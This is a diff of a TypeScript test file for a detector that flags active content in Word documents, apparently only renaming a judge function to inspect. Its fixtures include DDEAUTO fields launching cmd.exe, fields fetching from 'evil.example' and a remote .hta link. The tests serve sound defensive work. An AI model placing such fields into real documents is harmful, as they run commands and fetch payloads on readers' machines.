@@ -7,14 +7,14 @@ import { describe, expect, test } from 'vitest'
 import { compoundFile, type CompoundNode } from '../../testing/compound-file.ts'
 import { contentTypes, doc, docx, relationships, wordStream } from '../../testing/documents.ts'
 import { zipFile, type ZipPart } from '../../testing/zip-file.ts'
-import { judgeDocument } from './judge-document.ts'
+import { inspectDocument } from './inspect-document.ts'
 import type { Verdict } from './document.ts'
 
-const judge = async (type: FileType, content: Buffer): Promise<Verdict> => {
-  const path = join(tmpdir(), `elocute-judged-${randomUUID()}`)
+const inspect = async (type: FileType, content: Buffer): Promise<Verdict> => {
+  const path = join(tmpdir(), `elocute-inspected-${randomUUID()}`)
   await writeFile(path, content)
   try {
-    return await judgeDocument(type, path)
+    return await inspectDocument(type, path)
   } finally {
     await rm(path)
   }
@@ -130,7 +130,7 @@ const lesson = (...changed: ZipPart[]): Buffer => {
 
 describe('taken is', () => {
   test('an ordinary lesson with links, pictures, tables, headers, fields, an equation and a table of numbers', async () => {
-    expect(await judge('docx', lesson())).toBe('document')
+    expect(await inspect('docx', lesson())).toBe('document')
   })
 
   const fields97 = (...instructions: string[]) =>
@@ -153,7 +153,7 @@ describe('taken is', () => {
         children: [{ name: '_1', children: [{ name: 'Equation Native', content: Buffer.alloc(9) }] }],
       },
     ])
-    expect(await judge('doc', content)).toBe('document')
+    expect(await inspect('doc', content)).toBe('document')
   })
 })
 
@@ -185,7 +185,7 @@ describe('a document of Word is active with', () => {
   test.for(kinds.flatMap((kind) => elsewhere.map((target) => [kind, target] as const)))(
     'a relationship of type %s to %s',
     async ([kind, target]) => {
-      expect(await judge('docx', lesson(outside(kind, target)))).toBe('active')
+      expect(await inspect('docx', lesson(outside(kind, target)))).toBe('active')
     },
   )
 
@@ -212,7 +212,7 @@ describe('a document of Word is active with', () => {
       ],
     ],
   ])('%s', async ([, parts]) => {
-    expect(await judge('docx', lesson(...parts))).toBe('active')
+    expect(await inspect('docx', lesson(...parts))).toBe('active')
   })
 
   const command = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
@@ -301,7 +301,7 @@ describe('a document of Word is active with', () => {
       [text(field(` INCLUDEPICTURE ${'\\d '.repeat(5_000)} "https://evil.example/a" `))],
     ],
   ])('%s', async ([, parts]) => {
-    expect(await judge('docx', lesson(...parts))).toBe('active')
+    expect(await inspect('docx', lesson(...parts))).toBe('active')
   })
 
   test.for<[string, ZipPart]>([
@@ -334,7 +334,7 @@ describe('a document of Word is active with', () => {
       ),
     ],
   ])('%s in it', async ([, inside]) => {
-    expect(await judge('docx', lesson(inside))).toBe('active')
+    expect(await inspect('docx', lesson(inside))).toBe('active')
   })
 })
 
@@ -351,7 +351,7 @@ describe('a document of Word 97 is active with', () => {
     ' LINK htmlfile "\\\\\\\\evil\\\\a.hta" \\a ',
   ])('a field: %s', async (instruction) => {
     for (const encoding of ['latin1', 'utf16le'] as const) {
-      expect(await judge('doc', withText(filled(fieldOf(instruction, encoding))))).toBe('active')
+      expect(await inspect('doc', withText(filled(fieldOf(instruction, encoding))))).toBe('active')
     }
   })
 
@@ -359,7 +359,7 @@ describe('a document of Word 97 is active with', () => {
     for (let shift = -30; shift < 10; shift += 3) {
       const before = Buffer.alloc(65_536 - 4_096 + shift, 'a')
       const content = withText(filled(before, fieldOf(' DDEAUTO cmd ', 'latin1')))
-      expect([shift, await judge('doc', content)]).toEqual([shift, 'active'])
+      expect([shift, await inspect('doc', content)]).toEqual([shift, 'active'])
     }
   })
 
@@ -369,13 +369,13 @@ describe('a document of Word 97 is active with', () => {
     ['an object of the packager', { name: '_2', program: packageProgram, children: [] }],
   ])('%s in it', async ([, inside]) => {
     const pool = { name: 'ObjectPool', children: [{ name: '_1', children: [inside] }] }
-    expect(await judge('doc', doc(pool))).toBe('active')
+    expect(await inspect('doc', doc(pool))).toBe('active')
   })
 
   test('nothing, however many fields begin and never end', { timeout: 90_000 }, async () => {
     const began = performance.now()
     for (const filling of ['\x13', '\x13\0', '\x13 D', '\x13\0\0'])
-      expect(await judge('doc', withText(filled(Buffer.alloc(20_000_000, filling, 'latin1'))))).toBe(
+      expect(await inspect('doc', withText(filled(Buffer.alloc(20_000_000, filling, 'latin1'))))).toBe(
         'document',
       )
     expect(performance.now() - began).toBeLessThan(60_000)
